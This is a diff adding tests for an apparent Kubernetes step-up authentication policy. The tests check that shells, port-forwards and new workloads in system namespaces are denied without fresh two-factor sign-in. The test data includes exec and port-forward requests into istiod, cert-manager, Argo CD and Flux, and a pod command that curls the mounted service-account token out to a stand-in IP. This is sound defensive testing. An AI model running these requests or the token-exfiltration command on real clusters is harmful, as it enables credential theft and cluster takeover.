@@ -507,6 +507,62 @@ describe('examples/stepgate.yaml: switching the gate off', () => {
   });
 });
 
+// A shell or tunnel into the pods that run the cluster is their service account and their network
+// position (istiod's CA key, the gateway's Envoy admin, the ingress controller's Secrets, Argo CD's
+// and Flux's cluster-admin controllers, kube-system's node agents). The attacker is malware on an
+// engineer's laptop seconds after their two-factor sign-in, in a context they are known in.
+describe("examples/stepgate.yaml: a shell or tunnel into the cluster's own pods", () => {
+  const GW = '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t';
+  it.each<[string, string, string, Record<string, string>?]>([
+    ["a port-forward to the ingress gateway's Envoy admin (SPDY)", 'POST', `${GW}/portforward`, { ...UPGRADE_SPDY, 'x-stream-protocol-version': 'portforward.k8s.io' }],
+    ["a port-forward to the ingress gateway's Envoy admin (WebSocket)", 'GET', `${GW}/portforward?ports=15000`, UPGRADE_WS],
+    ["the gateway's Envoy admin through the pod proxy (debug logging)", 'POST', '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t:15000/proxy/logging?level=debug'],
+    ["a shell in the gateway's istio-proxy container", 'POST', `${GW}/exec?command=curl&command=-XPOST&command=localhost%3A15000%2Fquitquitquit&container=istio-proxy&stdout=true`, UPGRADE_SPDY],
+    ['a shell in istiod (the mesh CA key)', 'GET', '/api/v1/namespaces/istio-system/pods/istiod-7f6d9c8b4-hx2qv/exec?command=sh&stdin=true&stdout=true&tty=true', UPGRADE_WS],
+    ["istiod's debug endpoints through the service proxy", 'GET', '/api/v1/namespaces/istio-system/services/https:istiod:15014/proxy/debug/configz'],
+    ['a gateway in istio-ingress, attached to', 'POST', '/api/v1/namespaces/istio-ingress/pods/istio-ingress-6b9f7c5d4-q8w2e/attach?stdin=true&stdout=true&tty=true', UPGRADE_SPDY],
+    ['a debug container in a kube-system agent', 'PATCH', '/api/v1/namespaces/kube-system/pods/kube-proxy-x7k2p/ephemeralcontainers', { 'content-type': 'application/strategic-merge-patch+json' }],
+    ['a shell in a kube-system agent (the node\'s rights)', 'POST', '/api/v1/namespaces/kube-system/pods/cilium-4hz8q/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
+    ['a shell in the ingress controller (it reads every Secret)', 'POST', '/api/v1/namespaces/ingress-nginx/pods/ingress-nginx-controller-5d88495688-tk2wq/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
+    ['a shell in cert-manager (its issuers\' keys)', 'GET', '/api/v1/namespaces/cert-manager/pods/cert-manager-7d75f47cc5-r2b9m/exec?command=sh&stdin=true&stdout=true', UPGRADE_WS],
+    ["a shell in Argo CD's application controller (cluster-admin)", 'POST', '/api/v1/namespaces/argocd/pods/argocd-application-controller-0/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
+    ["a port-forward to Argo CD's repo server (manifest generation, no authentication)", 'GET', '/api/v1/namespaces/argocd/pods/argocd-repo-server-6c9b8d7f5-p4k2l/portforward?ports=8081', UPGRADE_WS],
+    ["a shell in Flux's kustomize-controller", 'POST', '/api/v1/namespaces/flux-system/pods/kustomize-controller-6bc5d5b96-8xk4w/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
+  ])('%s (%s %s) with two factors 5 seconds old is not allowed', async (_what, method, path, headers = {}) => {
+    const res = await freshSend('aal2', 0, method, path, headers);
+    expect(reasonOf(res)).toBe('acr_insufficient');
+    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('system-pod-access');
+  });
+
+  // A new workload there runs as the namespace's service accounts, which the example counts as
+  // cluster-admin (impersonation_privileged_users): the token it mounts can be sent anywhere.
+  const asController = (apiVersion: string, kind: string, ns: string, sa: string) =>
+    JSON.stringify({ apiVersion, kind, metadata: { name: 'tuning', namespace: ns }, spec: { serviceAccountName: sa, containers: [{ name: 'c', image: 'curlimages/curl:8.11.1', command: ['sh', '-c', 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.7/'] }] } });
+  it.each<[string, string, string, Record<string, string>, string]>([
+    ["a Pod as Argo CD's application controller (cluster-admin)", 'POST', '/api/v1/namespaces/argocd/pods', { 'content-type': 'application/json' }, asController('v1', 'Pod', 'argocd', 'argocd-application-controller')],
+    ["a Pod as Flux's kustomize-controller, applied server-side", 'PATCH', '/api/v1/namespaces/flux-system/pods/tuning?fieldManager=kubectl', SSA, asController('v1', 'Pod', 'flux-system', 'kustomize-controller')],
+    ['a Pod as cert-manager (every Secret)', 'POST', '/api/v1/namespaces/cert-manager/pods', { 'content-type': 'application/json' }, asController('v1', 'Pod', 'cert-manager', 'cert-manager')],
+    ['a Pod as istiod (the mesh CA)', 'POST', '/api/v1/namespaces/istio-system/pods', { 'content-type': 'application/json' }, asController('v1', 'Pod', 'istio-system', 'istiod')],
+    ['a Job in ingress-nginx as its controller', 'POST', '/apis/batch/v1/namespaces/ingress-nginx/jobs', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'tuning' }, spec: { template: { spec: { serviceAccountName: 'ingress-nginx', restartPolicy: 'Never', containers: [{ name: 'c', image: 'curlimages/curl:8.11.1' }] } } } })],
+  ])('%s (%s %s) with two factors 5 seconds old is not allowed', async (_what, method, path, headers, body) => {
+    const res = await freshSend('aal2', 0, method, path, headers, body);
+    expect(reasonOf(res)).toBe('acr_insufficient');
+    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('system-workload-creates');
+  });
+
+  // Reads and logs of the same pods, Prometheus and Grafana reached by port-forward, and a shell in
+  // an app's pod stay what pod-shell and the defaults ask.
+  it.each<[string, string, string, Record<string, string>?]>([
+    ["the gateway's logs", 'GET', '/api/v1/namespaces/istio-system/pods/istio-ingressgateway-5c7d8f9b6-m2v7t/log?container=istio-proxy&follow=true'],
+    ["kube-system's pods listed", 'GET', '/api/v1/namespaces/kube-system/pods'],
+    ['a port-forward to Prometheus', 'GET', '/api/v1/namespaces/monitoring/pods/prometheus-k8s-0/portforward?ports=9090', UPGRADE_WS],
+    ["a shell in an app's pod", 'POST', '/api/v1/namespaces/shop/pods/web-7d9f-abcde/exec?command=sh&stdin=true&tty=true', UPGRADE_SPDY],
+    ["the gateway's HPA edited", 'PATCH', '/apis/autoscaling/v2/namespaces/istio-system/horizontalpodautoscalers/istio-ingressgateway?fieldManager=kubectl-edit', { 'content-type': 'application/merge-patch+json' }],
+  ])('controls: %s with two factors 2 hours old is allowed', async (_what, method, path, headers = {}) => {
+    expect(reasonOf(await freshSend('aal2', 2, method, path, headers))).toBe('allowed');
+  });
+});
+
 // GitOps objects written through the API server ask what the same change asks in Argo CD
 // (argocd-app-changes, argocd-admin): the token here has two factors, 2 hours old.
 describe('examples/stepgate.yaml: Argo CD and Flux objects through the API server', () => {
